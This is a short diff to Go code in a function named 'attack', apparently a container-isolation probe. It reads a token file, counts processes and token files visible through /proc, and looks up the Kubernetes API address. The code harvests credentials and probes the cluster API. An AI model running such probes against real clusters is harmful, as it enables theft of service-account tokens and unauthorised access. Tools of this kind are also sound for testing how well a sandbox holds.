@@ -44,7 +44,9 @@ func attack(argv []string, stdout io.Writer) int {
 		say("read "+p, "READ")
 		token = strings.TrimSpace(string(b))
 	}
-	say("processes visible", fmt.Sprint(len(procs)))
+	pids, _ := filepath.Glob("/proc/[0-9]*")
+	say("processes visible", fmt.Sprint(len(pids)))
+	say("tokens visible through /proc", fmt.Sprint(len(procs)))
 
 	host, port := os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT")
 	if host == "" {
